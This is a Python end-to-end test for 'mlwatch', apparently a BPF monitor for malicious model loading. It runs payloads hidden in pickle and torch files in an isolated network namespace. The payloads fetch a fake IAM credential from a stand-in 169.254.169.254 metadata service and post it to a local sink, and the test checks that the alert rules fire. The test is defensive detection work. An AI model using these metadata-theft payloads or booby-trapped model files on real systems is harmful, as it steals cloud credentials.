"""Cloud metadata, end to end: the test makes a network namespace holding
169.254.169.254 on a dummy interface, with a stand-in metadata service
there that serves a fake instance credential, and a sink on the
namespace's own 127.0.0.1 (external under --internal-net 10.0.0.0/8). The
loaders run inside the namespace; mlwatch runs outside it, and its BPF
sees every namespace.

A payload that asks the metadata service for the instance credential and
posts it out is chain-cloud-credential-theft; one that reads a credential
file and asks the metadata service is chain-credential-exfil by its
metadata branch; a control-plane root (Ray's dashboard, by its command
line) that asks it is root-metadata-connect. The benign twins: a job that
asks the metadata service after its load, as cloud SDKs do (context,
never an alert), and a process that loaded no model at all, both silent.

Threat model: docs/threat-model.md §3.
"""
import os
import subprocess
import time

from harness import (LOADER, PY, Checks, Scenario, TestFailure, for_loader, get, require_rules,
                     summary, touching, with_rule)

METADATA = "169.254.169.254"
SINK_PORT = 8443
FAKE_KEY = "ASIAFAKEMETADATA0000"

# The stand-in metadata service and the sink, run inside the namespace.
SERVER = r'''
import http.server, json, socket, sys, threading, time
ready, sink_file, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
CRED = json.dumps({"Code": "Success", "Type": "AWS-HMAC", "AccessKeyId": "%s",
                   "SecretAccessKey": "fake/e2e/not-a-real-secret", "Token": "fake",
                   "Expiration": "2099-01-01T00:00:00Z"}).encode()
PREFIX = "/latest/meta-data/iam/security-credentials/"
class Metadata(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = (b"mlwatch-e2e-role" if self.path == PREFIX else
                CRED if self.path.startswith(PREFIX) else b"ami-0fake")
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
md = http.server.ThreadingHTTPServer(("169.254.169.254", 80), Metadata)
sink = socket.socket()
sink.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sink.bind(("127.0.0.1", port))
sink.listen(8)
sink.settimeout(0.2)
threading.Thread(target=md.serve_forever, daemon=True).start()
open(ready, "w").close()
end = time.monotonic() + 120
while time.monotonic() < end:
    try:
        conn, _ = sink.accept()
    except socket.timeout:
        continue
    conn.settimeout(5)
    data = b""
    try:
        while len(data) < 65536:
            b = conn.recv(4096)
            if not b:
                break
            data += b
    except OSError:
        pass
    conn.close()
    with open(sink_file, "ab") as f:
        f.write(data + b"\n")
''' % FAKE_KEY

# Payload code and the twins' (exec() gives it throwaway locals: no defs).
ASK = r'''
import socket
got = b""
for path in ("/latest/meta-data/iam/security-credentials/", None):
    s = socket.create_connection(("169.254.169.254", 80), timeout=5)
    url = path or "/latest/meta-data/iam/security-credentials/" + got.decode().strip()
    s.sendall(("GET %s HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n" % url).encode())
    resp = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        resp += b
    s.close()
    got = resp.split(b"\r\n\r\n", 1)[1]
'''
SEND = r'''
s = socket.create_connection(("127.0.0.1", %d), timeout=5)
s.sendall(got)
s.close()
''' % SINK_PORT


def _ip(*args, check=True):
    r = subprocess.run(["ip"] + list(args), capture_output=True, text=True, timeout=20)
    if r.returncode != 0 and check:
        raise TestFailure("ip %s failed: %s" % (" ".join(args), r.stderr.strip()))
    return r


class Namespace:
    """A network namespace with lo up and METADATA/32 on a dummy link (a
    veth pair with both ends inside, on kernels built without dummy), and
    the stand-in service in it; gone (service killed by PID, namespace
    deleted) on exit, whatever happened."""

    def __init__(self, sc):
        self.sc = sc
        self.name = "mlw-e2e-md-%d" % os.getpid()
        self.server = None
        self.sink = sc.path("sink.log")  # no model name: the harness must stay unmarked

    def __enter__(self):
        if os.path.exists("/run/netns/" + self.name):   # left by a killed run
            _ip("netns", "del", self.name)
        _ip("netns", "add", self.name)
        try:
            _ip("-n", self.name, "link", "set", "lo", "up")
            if _ip("-n", self.name, "link", "add", "md0", "type", "dummy", check=False).returncode:
                _ip("-n", self.name, "link", "add", "md0", "type", "veth", "peer", "name", "md1")
                _ip("-n", self.name, "link", "set", "md1", "up")
            _ip("-n", self.name, "addr", "add", METADATA + "/32", "dev", "md0")
            _ip("-n", self.name, "link", "set", "md0", "up")
            ready = self.sc.path("server.ready")
            server = self.sc.write("metadata_server.py", SERVER)
            self.server = subprocess.Popen(
                self.argv(PY, server, ready, self.sink, str(SINK_PORT)), cwd=self.sc.dir,
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            end = time.monotonic() + 20
            while not os.path.exists(ready):
                if self.server.poll() is not None or time.monotonic() > end:
                    raise TestFailure("the stand-in metadata service did not start: %s"
                                      % self._server_err())
                time.sleep(0.05)
        except BaseException:
            self.__exit__(None, None, None)
            raise
        return self

    def argv(self, *cmd):
        return ["ip", "netns", "exec", self.name] + list(cmd)

    def sunk(self):
        try:
            with open(self.sink, "rb") as f:
                return f.read()
        except FileNotFoundError:
            return b""

    def _server_err(self):
        if self.server.poll() is None:
            return "still running"
        return self.server.stderr.read().decode("utf-8", "replace")[-400:]

    def __exit__(self, et, ev, tb):
        if self.server is not None:
            if self.server.poll() is None:
                os.kill(self.server.pid, 9)
            self.server.wait(5)
            self.server.stderr.close()
        subprocess.run(["ip", "netns", "del", self.name], capture_output=True, timeout=20)
        return False


def _incident(sc, pid):
    recs = [i for i in sc.mon.incidents if get(i, "loader", "pid") == pid]
    return recs[-1] if recs else None


def test_cloud_metadata_in_a_namespace():
    with Scenario("metadata") as sc:
        cred = sc.fake_credentials()
        theft = sc.make_model("torch", "theft.pt", exec_code=ASK + SEND)
        filemd = sc.make_model("pickle", "filemd.pkl",
                               exec_code="open(%r).read()\n" % cred + ASK)
        clean = sc.make_model("pickle", "clean.pkl")
        with Namespace(sc) as ns:
            sc.start(sentinel=True, extra_args=["-v"])
            # the payloads, inside the namespace
            ld = sc._run(ns.argv(PY, LOADER, "torch", theft), 90, tag="loader").expect_ok("theft")
            if FAKE_KEY.encode() not in ns.sunk():
                raise TestFailure("the payload did not post the instance credential: %r"
                                  % ns.sunk()[:200])
            sc.wait_rules(ld.pid, {"model-loader-metadata-connect",
                                   "model-loader-external-connect"})
            fm = sc._run(ns.argv(PY, LOADER, "pickle", filemd), 90, tag="loader").expect_ok("filemd")
            sc.wait_rules(fm.pid, {"model-loader-metadata-connect",
                                   "model-loader-credential-read"})
            # a control-plane root, given the time to be told one by its argv
            dash = sc.write("ray/dashboard/dashboard.py", "import time\ntime.sleep(1.0)\n" + ASK)
            root = sc._run(ns.argv(PY, dash), 60, tag="root").expect_ok("dashboard")
            sc.wait_rules(root.pid, {"root-metadata-connect"})
            # a cloud SDK after its load: the file closed, past the grace
            sdk = sc.write("sdk.py", "import pickle, sys, time\n"
                           "pickle.load(open(sys.argv[1], 'rb'))\ntime.sleep(1.0)\n"
                           + ASK + SEND)
            twin = sc._run(ns.argv(PY, sdk, clean), 60, tag="twin")
            plain = sc.write("plain.py", ASK + SEND)
            other = sc._run(ns.argv(PY, plain), 60, tag="plain")
            for what, r in (("SDK twin", twin), ("plain process", other)):
                r.expect_ok(what)
            if ns.sunk().count(FAKE_KEY.encode()) != 3:
                raise TestFailure("the twins did not reach the metadata service and the sink")
            sc.expect_seen("the SDK twin's metadata connect after its load",
                           lambda e: e["pid"] == twin.pid and e["kind"] == "connect"
                           and e["address"] == METADATA and not e["during_load"])
            sc.liveness_sentinel()
            alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-metadata-connect",
                                                  "model-loader-external-connect"})
        c = Checks("metadata " + summary(mine))
        md = with_rule(mine, "model-loader-metadata-connect")
        for a in md:
            c.eq(get(a, "event", "address"), METADATA, "metadata alert address")
            c.eq(get(a, "event", "port"), 80, "metadata alert port")
            c.eq(get(a, "event", "dest_class"), "metadata", "metadata alert dest_class")
            c.eq(get(a, "event", "during_load"), True, "metadata alert during_load")
            c.eq(get(a, "severity"), "critical", "metadata alert severity")
        inc = _incident(sc, ld.pid)
        chains = [ch.get("id") for ch in (inc or {}).get("chains") or []]
        steps = [s.get("step") for s in (inc or {}).get("timeline") or []]
        c.true("chain-cloud-credential-theft" in chains, "theft chains: %s" % chains)
        c.true({"metadata_connect", "external_connect"} <= set(steps), "theft timeline %s" % steps)
        c.eq(get(inc, "severity"), "critical", "theft incident severity")
        fmine = require_rules(sc, alerts, fm.pid, {"model-loader-metadata-connect",
                                                   "model-loader-credential-read"})
        c.true(not with_rule(fmine, "model-loader-external-connect"), "filemd went external")
        chains = [ch.get("id") for ch in (_incident(sc, fm.pid) or {}).get("chains") or []]
        c.true("chain-credential-exfil" in chains, "credential then metadata: chains %s" % chains)
        c.true("chain-cloud-credential-theft" not in chains,
               "cloud theft named without an external connect: %s" % chains)
        rmine = with_rule(for_loader(alerts, root.pid), "root-metadata-connect")
        c.true(rmine, "no root-metadata-connect for the dashboard: %s"
               % summary(for_loader(alerts, root.pid)))
        for a in rmine:
            c.eq(get(a, "event", "address"), METADATA, "root metadata alert address")
        for what, pid in (("an SDK reading the metadata service after its load", twin.pid),
                          ("a process that loaded no model", other.pid)):
            near = touching(alerts, pid)
            c.true(not near, "%s (pid %d) raised %s" % (what, pid, summary(near)))
            c.true(_incident(sc, pid) is None, "%s (pid %d) has an incident" % (what, pid))
        c.done()
